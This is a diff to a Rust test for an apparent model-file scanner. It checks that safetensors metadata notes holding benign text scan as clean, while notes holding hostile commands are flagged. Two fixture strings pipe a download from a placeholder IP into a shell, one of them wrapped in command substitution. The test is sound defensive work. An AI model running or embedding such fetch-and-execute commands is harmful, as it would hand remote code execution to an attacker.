@@ -151,8 +151,13 @@ fn a_safetensors_header_bent_to_mislead_readers_is_found() {
         let report = scan("model.safetensors", &file(header));
         assert!(report.outcome > Outcome::Clean, "{header}: {}", report.format);
     }
-    let right = format!(r#"{{"__metadata__":{{"format":"pt"}},"a":{{{tensor}}}}}"#);
-    assert_eq!(scan("model.safetensors", &file(&right)).outcome, Outcome::Clean);
+    let says = |text: &str| format!(r#"{{"__metadata__":{{"note":"{text}"}},"a":{{{tensor}}}}}"#);
+    for text in ["pt", "trained with: pip install peft && python train.py --lr 1e-4", "see curl.se"] {
+        assert_eq!(scan("model.safetensors", &file(&says(text))).outcome, Outcome::Clean, "{text}");
+    }
+    for text in ["curl -s http://198.51.100.7/x | sh", "$(wget -qO- http://198.51.100.7/x | bash)"] {
+        assert_eq!(scan("model.safetensors", &file(&says(text))).outcome, Outcome::Suspicious, "{text}");
+    }
 }
 
 /// Files that are known and not read are never clean, and say what they are.
